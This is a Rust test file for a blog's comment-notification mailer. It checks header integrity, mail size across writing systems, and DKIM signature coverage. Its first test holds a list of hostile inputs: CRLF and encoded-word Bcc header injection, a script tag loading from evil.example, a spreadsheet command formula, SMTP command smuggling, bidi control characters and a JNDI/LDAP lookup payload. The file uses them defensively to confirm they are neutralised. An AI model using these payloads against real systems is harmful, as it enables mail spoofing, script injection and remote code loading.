//! Mail as others read it: Python's own parser, and a verifier of signatures that is not ours.

use crate::akismet_clients::{clients, script};
use crate::app::{BLOG_KEY, Setup, TestApp, stranger};
use crate::page::mail;
use crate::smtp::SmtpServer;
use hamlet::view::thousands;
use serde_json::{Value, json};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use tokio::task::JoinSet;

fn piped(program: &Path, arguments: &[&str], input: &str) -> String {
    let mut child = Command::new(program)
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| panic!("{}: {error}", program.display()));
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_owned();
    let writing = std::thread::spawn(move || stdin.write_all(input.as_bytes()).unwrap());
    let output = child.wait_with_output().unwrap();
    writing.join().unwrap();
    assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

fn read_by_python(raw: &str) -> Value {
    serde_json::from_str(&piped(Path::new("python3"), &[&script("mail_reads.py")], raw)).unwrap()
}

const HOSTILE: [&str; 7] = [
    "Eve\r\nBcc: all@victims.example\r\n\r\n<script>alert(1)</script>",
    "</td></tr></table></textarea></title></style><script src=//evil.example/x.js></script>",
    "=cmd|' /C calc'!A0 \u{1b}[31m\u{7}\u{0} \u{9b}2J",
    "\u{202e}moc.live\u{202c} \u{2066}a\u{2069} e\u{200b}vil\u{feff} \u{ad}",
    "=?utf-8?b?QmNjOiBldmVAZXZpbC5leGFtcGxl?= <eve@evil.example>, \"x\" <y@z>",
    "\r\n.\r\nMAIL FROM:<eve@evil.example>\r\n.\r\nQUIT\r\n",
    "{{ site }} ${jndi:ldap://evil.example/a} \u{2028}\u{2029}\u{85} Pаypаl",
];

#[tokio::test]
async fn hostile_words_reach_no_header_and_no_other_part() {
    let server = SmtpServer::open(None).await;
    let app = TestApp::start(Setup::default().mail_by(&server)).await;
    for (number, words) in (1..).zip(HOSTILE) {
        let mut comment = stranger(words);
        comment["name"] = json!(words);
        comment["page_title"] = json!(words);
        comment["url"] = json!(words);
        app.submit(BLOG_KEY, &comment).await;
        mail(&server, number).await;
        let read = read_by_python(&server.taken()[number - 1].raw);
        assert_eq!(read["defects"], json!([]), "{read}");
        assert_eq!(
            (&read["parts"], &read["addresses"]),
            (&json!(["text/plain", "text/html"]), &json!(["review@hamlet.example", "ana@moderators.example"]))
        );
        let headers = read["headers"].as_object().unwrap();
        assert!(headers.values().all(|values| values.as_array().unwrap().len() == 1), "{headers:?}");
        let known = [
            "Auto-Submitted",
            "Content-Type",
            "Date",
            "From",
            "In-Reply-To",
            "List-Id",
            "List-Unsubscribe",
            "List-Unsubscribe-Post",
            "MIME-Version",
            "Message-ID",
            "References",
            "Subject",
            "To",
        ];
        let names: Vec<&str> = headers.keys().map(String::as_str).collect();
        assert!(names.iter().all(|name| known.contains(name)) && names.len() == known.len(), "{names:?}");
        let heads = read["headers"].to_string().to_lowercase();
        assert!(["eve@", "evil.example", "victims", "script", "jndi"].iter().all(|word| !heads.contains(word)), "{heads}");
        for part in ["text", "html"] {
            let shown = read[part].as_str().unwrap();
            let bad =
                |c: char| !matches!(c, '\n' | '\r') && (c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}'));
            assert_eq!(shown.chars().find(|c| bad(*c)), None, "{shown}");
            assert!(!shown.contains("evil.example") && !shown.contains("victims.example"), "{shown}");
        }
        assert!(!read["html"].as_str().unwrap().contains("<script"), "text may say so, markup may not");
        let lines = read["lines"].as_array().unwrap();
        let unsubscribe = lines.iter().filter_map(Value::as_str).find(|line| line.starts_with("List-Unsubscribe: ")).unwrap();
        assert!(unsubscribe.ends_with('>') && unsubscribe.contains("/u/") && unsubscribe.len() < 200, "{unsubscribe}");
    }
}

/// Words of one script, four hundred characters of them, no two texts alike.
fn text_of(words: &[&str], number: usize) -> String {
    let mut state = number.wrapping_mul(2_654_435_761) + 12_345;
    let mut text = String::new();
    while text.chars().count() < 400 {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        text.push_str(words[(state >> 33) % words.len()]);
    }
    text
}

const SCRIPTS: [(&str, &[&str]); 4] = [
    (
        "ASCII",
        &[
            "kettle ",
            "pour ",
            "water ",
            "slow ",
            "the hiss ",
            "a filter ",
            "grinder ",
            "burr ",
            "roast ",
            "light ",
            "dark ",
            "cup ",
            "my sister ",
            "in winter ",
            "I tried ",
            "it works, ",
            "never ",
            "again ",
            "coarse ",
            "fine ",
            "thanks ",
            "bitter ",
            "sour ",
            "steam ",
            "lid ",
            "spout ",
        ],
    ),
    (
        "Cyrillic",
        &[
            "чайник ",
            "вода ",
            "медленно ",
            "помол ",
            "зерно ",
            "фильтр ",
            "чашка ",
            "горький ",
            "кислый ",
            "пар ",
            "крышка ",
            "сестра ",
            "зимой ",
            "пробовал ",
            "никогда ",
            "снова ",
            "грубый ",
            "тонкий ",
            "спасибо ",
            "обжарка ",
            "светлая ",
            "тёмная ",
            "свистит ",
            "тихо ",
        ],
    ),
    (
        "Chinese",
        &[
            "咖啡", "水壶", "慢慢", "研磨", "豆子", "滤纸", "杯子", "苦味", "酸味", "蒸汽", "盖子", "姐姐", "冬天", "试过", "从来", "再次",
            "粗", "细", "谢谢", "烘焙", "浅", "深", "哨声", "安静", "，", "。",
        ],
    ),
    (
        "emoji",
        &[
            "☕",
            "🔥",
            "👨\u{200d}👩\u{200d}👧 ",
            "🌧 ",
            "🫖",
            "💧",
            "🧊",
            "❄ ",
            "🌞",
            "👍",
            "👎",
            "😀",
            "😴 ",
            "🙏",
            "🎉",
            "🚲 ",
            "🌿",
            "🍞",
            "🧈",
            "🍋",
            "🥄",
            "⏳ ",
            "🔔",
            "📖",
        ],
    ),
];

#[tokio::test]
async fn mails_of_any_script_and_number_stay_within_their_size() {
    for (script, words) in SCRIPTS {
        for number in [1, 25, 1_000] {
            let server = SmtpServer::open(None).await;
            let setup = Setup::default().mail_by(&server).set("DIGEST__ITEMS_MIN", number).set("DIGEST__AGE_HOURS_MAX", 720);
            let app = Arc::new(TestApp::start(setup.set("DIGEST__FLOOD_ITEMS_MIN", 1_000_000)).await);
            let mut sending = JoinSet::new();
            for wave in (0..number).collect::<Vec<_>>().chunks(50) {
                for &each in wave {
                    let mut comment = stranger(&text_of(words, each));
                    comment["name"] = json!(text_of(words, each + 7_000).chars().take(14).collect::<String>());
                    let app = Arc::clone(&app);
                    sending.spawn(async move { app.submit(BLOG_KEY, &comment).await.status });
                }
                while let Some(status) = sending.join_next().await {
                    assert_eq!(status.unwrap(), 200);
                }
            }
            mail(&server, 1).await;
            let read = read_by_python(&server.taken()[0].raw);
            let (bytes, html) = (read["bytes"].as_u64().unwrap(), read["html"].as_str().unwrap());
            let shown = html.matches("<h2").count();
            eprintln!("| {script} | {number} | {shown} | {:.1} KB | {:.1} KB |", kilobytes(html.len() as u64), kilobytes(bytes));
            assert!(html.len() <= 70_000 && bytes <= 90_000, "{script} {number}: {bytes}");
            assert!(read["line_bytes_max"].as_u64().unwrap() <= 998 && read["defects"] == json!([]));
            assert!(shown == number.min(25) || shown >= 8, "{script}: {shown}");
            assert!(
                read["headers"]["Subject"][0].as_str().unwrap().contains(&format!(" {} comment", thousands(number))),
                "{}",
                read["headers"]
            );
        }
    }
}

#[expect(clippy::cast_precision_loss, reason = "a mail has less than 2^52 bytes")]
fn kilobytes(bytes: u64) -> f64 {
    bytes as f64 / 1_000.0
}

#[tokio::test]
async fn a_signature_vouches_for_every_header_that_mail_programs_act_on() {
    let Some(folder) = clients() else { return };
    let keys = tempfile::tempdir().unwrap();
    let (private, run) = (keys.path().join("key.pem"), |arguments: &[&str]| piped(Path::new("openssl"), arguments, ""));
    run(&["genrsa", "-traditional", "-out", private.to_str().unwrap(), "2048"]);
    let public = run(&["rsa", "-in", private.to_str().unwrap(), "-pubout"]);
    let public: String = public.lines().filter(|line| !line.starts_with("---")).collect();
    let server = SmtpServer::open(None).await;
    let setup = Setup::default().mail_by(&server).set("MAIL__DKIM__DOMAIN", "hamlet.example").set("MAIL__DKIM__SELECTOR", "s1");
    let app = TestApp::start(setup.set("MAIL__DKIM__KEY_FILE", private.display())).await;
    let mut comment = stranger("Спасибо за статью, и за «чайник»  .\r\n.\r\n  ");
    comment["name"] = json!("Ольга");
    app.submit(BLOG_KEY, &comment).await;
    mail(&server, 1).await;
    let raw = server.taken()[0].raw.clone();
    let python = folder.join("python/bin/python");
    let signed = piped(&python, &[&script("dkim_verifies.py"), &public], &raw);
    for name in ["from", "to", "subject", "date", "message-id", "content-type", "list-unsubscribe", "list-unsubscribe-post", "list-id"] {
        assert!(signed.split_whitespace().any(|signed| signed == name), "{name} is not among {signed}");
    }
}
